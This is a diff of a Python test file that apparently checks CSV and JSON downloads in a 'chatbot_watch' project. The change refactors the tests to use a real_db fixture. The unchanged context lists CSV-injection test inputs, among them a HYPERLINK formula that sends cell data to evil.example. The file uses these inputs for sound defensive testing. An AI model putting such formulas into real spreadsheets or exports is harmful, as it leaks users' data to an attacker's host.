@@ -19,7 +19,7 @@ from chatbot_watch.build import build
 from chatbot_watch.downloads import FORMULA_START, csv_text, json_text
 from chatbot_watch.export import TABLES, export
 from chatbot_watch.filters import Filters
-from tests.conftest import REAL_DATA, edit
+from tests.conftest import edit
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -67,10 +67,8 @@ def test_download_neutralises_formula_cells_and_keeps_json_exact() -> None:
     assert payload["licence"] == meta["licence"]
 
 
-def test_real_flows_download_has_no_formula_cell(tmp_path: Path) -> None:
-    db = tmp_path / "real.duckdb"
-    build(REAL_DATA, db)  # checked against today, as `validate` does
-    con = queries.connect(str(db))
+def test_real_flows_download_has_no_formula_cell(real_db: Path) -> None:
+    con = queries.connect(str(real_db))
     rows = queries.flows(con, Filters())
     assert_no_formula(cells(csv_text(rows)), "flows download")
 
